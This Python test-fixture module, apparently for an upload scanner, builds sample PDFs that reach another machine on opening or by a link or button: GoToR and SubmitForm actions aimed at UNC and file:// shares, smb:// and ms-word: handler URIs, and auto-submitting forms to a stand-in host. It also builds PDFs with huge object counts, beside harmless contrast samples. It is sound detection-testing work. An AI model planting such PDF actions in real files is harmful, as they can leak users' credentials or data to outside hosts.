"""PDFs that lead to another machine, by each of the names that a file may have there, and honest ones that do not."""

from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from tests.servicedesk.uploads.samples import note, pdf

SHARES = ("\\\\example.ir\\x", "//example.ir/x", "file://example.ir/x", " \\\\example.ir\\x")
PAGE = "https://example.ir/x"


def opening(**entries):
    return pdf(change=lambda document: setattr(document.Root, "OpenAction", Dictionary(**entries)))


def _referred(document):
    """A button sends the form, and so does the opening of the document."""
    action = document.make_indirect(Dictionary(S=Name.SubmitForm, F=_page()))
    note(document, Subtype=Name.Widget, FT=Name.Btn, A=action)
    document.Root.OpenAction = action


def _page():
    return Dictionary(FS=Name.URL, F=String(PAGE))


def hiding():
    """{title: file}."""
    found = {}
    for action in ("GoToR", "Thread", "SubmitForm"):
        kind = Name(f"/{action}")
        for share in SHARES:
            found[f"{action} to {share}"] = opening(S=kind, F=String(share))
            found[f"{action} to {share}, specified"] = opening(S=kind, F=Dictionary(FS=Name.URL, F=String(share)))
        for name in ("UF", "DOS", "Unix", "Mac"):
            told = Dictionary(F=String("a.pdf"), **{name: String(SHARES[0])})
            found[f"{action} by the name for {name}"] = opening(S=kind, F=told)
    for address in (
        "file://example.ir/x",
        "\\\\example.ir\\x",
        "FILE:///c:/x.exe",
        "smb://example.ir/x",
        "ms-word:ofe|u|x",
    ):
        found[f"an address {address}"] = opening(S=Name.URI, URI=String(address))
        link = Dictionary(S=Name.URI, URI=String(address))
        found[f"a link {address}"] = pdf(change=lambda d, link=link: note(d, Subtype=Name.Link, A=link))
    found["addresses that begin elsewhere"] = pdf(
        change=lambda d: setattr(d.Root, "URI", Dictionary(Base=String("file://example.ir/")))
    )
    found["a network path as the format spells it"] = opening(S=Name.GoToR, F=String("/server/share/a.pdf"))
    found["sending at opening"] = opening(S=Name.SubmitForm, F=_page())
    found["sending by a link"] = pdf(
        change=lambda d: note(d, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=_page()))
    )
    found["sending behind a script"] = opening(
        S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(S=Name.SubmitForm, F=_page())
    )
    found["sending by a button and at opening"] = pdf(change=_referred)
    found["sending to a share by a button"] = pdf(change=lambda d: button(d, Dictionary(F=String(SHARES[0]))))
    return found


def button(document, file, indirect=False):
    action = Dictionary(S=Name.SubmitForm, F=file)
    note(document, Subtype=Name.Widget, FT=Name.Btn, A=document.make_indirect(action) if indirect else action)


def harmless():
    addresses = (
        "https://example.ir",
        "mailto:a@example.ir",
        "tel:+982100000000",
        "www.example.ir/a",
        "#page=2",
        "a.html",
    )
    found = {
        f"a link {address}": pdf(
            change=lambda d, address=address: note(d, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address)))
        )
        for address in addresses
    }
    found["a form's button"] = pdf(change=lambda d: button(d, _page()))
    found["a form's button elsewhere in the file"] = pdf(change=lambda d: button(d, _page(), indirect=True))
    found["a jump to a file beside it"] = opening(S=Name.GoToR, F=String("folder/b.pdf"), D=Array([0, Name.Fit]))
    return found


def many_objects():
    """A small file of hundreds of thousands of objects."""

    def change(document):
        for _ in range(90_000):
            document.make_indirect(Dictionary(A=1, B=2, C=3, D=4))
        document.Root.Many = Array([document.make_indirect(Dictionary(A=1, B=2, C=3, D=4)) for _ in range(90_000)])

    return pdf(change=change, object_stream_mode=ObjectStreamMode.generate)


def many_within():
    """One object with a million others in it."""
    return pdf(
        change=lambda document: setattr(document.Root, "Many", Array([Array([]) for _ in range(700_000)])),
        object_stream_mode=ObjectStreamMode.generate,
    )
